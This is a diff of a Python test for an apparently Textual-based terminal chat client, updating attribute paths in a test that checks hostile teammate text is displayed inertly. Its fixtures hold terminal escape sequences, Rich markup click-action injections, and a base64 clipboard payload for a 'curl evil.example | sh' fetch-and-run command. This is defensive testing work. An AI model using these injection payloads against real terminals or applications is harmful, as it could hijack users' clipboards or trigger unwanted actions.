@@ -82,18 +82,18 @@ async def test_a_hostile_teammate_everywhere_the_client_shows_their_text(
 
             # The chat with them: message rows, header, OOO banner, stale hint, the call line.
             await open_chat(pilot, app, "maya.chen")
-            await until(pilot, lambda: len(app.conversation.row_texts()) > len(CORPUS), what="rows drawn")
-            await until(pilot, lambda: app.conversation.banner.display, what="OOO banner")
-            await until(pilot, lambda: app.conversation.hint.display, within=15, what="stale hint")
-            log, header = app.conversation.row_texts(), shown(app, "#chat-header")
+            await until(pilot, lambda: len(app.main.conversation.row_texts()) > len(CORPUS), what="rows drawn")
+            await until(pilot, lambda: app.main.conversation.banner.display, what="OOO banner")
+            await until(pilot, lambda: app.main.conversation.hint.display, within=15, what="stale hint")
+            log, header = app.main.conversation.row_texts(), shown(app, "#chat-header")
             banner, hint = shown(app, "#ooo-banner"), shown(app, "#stale-hint")
             # Clicking where the OOO message says [@click=…] runs nothing.
             await pilot.click("#ooo-banner", offset=(4, 0))
             await pilot.click("#ooo-banner", offset=(20, 0))
 
             await open_chat(pilot, app, f"#{general}")
-            await until(pilot, lambda: any("PWNED-0" in r for r in app.conversation.row_texts()), what="channel")
-            channel_log = app.conversation.row_texts()
+            await until(pilot, lambda: any("PWNED-0" in r for r in app.main.conversation.row_texts()), what="channel")
+            channel_log = app.main.conversation.row_texts()
 
             await press_until(pilot, "ctrl+l", lambda: isinstance(app.screen, CallsScreen), what="calls list")
             calls = [str(o.prompt) for o in app.screen.query_one("#calls-list").options]  # type: ignore[attr-defined]
@@ -120,7 +120,7 @@ async def test_a_hostile_teammate_everywhere_the_client_shows_their_text(
             assert f"{sequence}{marker}" not in output
     # What each place showed: their text, visibly, never as markup and never as bytes.
     name = "Maya␛]2;PWNED-NAME␇ [/] [@click=app.quit]Chen ⟨RLO⟩nehC␤�2J"  # no zero-width space, no line break
-    assert app.state.name_of("maya.chen") == name
+    assert app.session.state.name_of("maya.chen") == name
     assert title == f"☎  {name} is calling"
     assert any("␛]52;c;" in line for line in log)
     assert any("[@click=app.screenshot('x.sh','/tmp')]click me" in line for line in log)
@@ -134,9 +134,9 @@ async def test_a_hostile_teammate_everywhere_the_client_shows_their_text(
     assert any("Maya␛" in line for line in calls)
     assert ooo_form[0].endswith("[b]x ␛]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaAo=␇")
     assert ooo_form[1] == "[b]x ␛]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaAo=␇"
-    team_row = str(app.contacts.get_option("team:infra\x1b]0;PWNED-TEAM\x07[b]").prompt)
+    team_row = str(app.main.contacts.get_option("team:infra\x1b]0;PWNED-TEAM\x07[b]").prompt)
     assert team_row == "INFRA␛]0;PWNED-TEAM␇[B]"
-    assert "gen�2;PWNED�[/]" in contact_rows[f"#{general}"]
+    assert "gen�2;PWNED�[/]" in contact_rows[general]
     assert contact_rows["maya.chen"][1:].startswith(" Maya␛]2;PWNE… ✈ OOO")
     assert said  # toasts were up, and drawn through the same checks
     assert not (Path("/tmp") / "x.sh").exists()
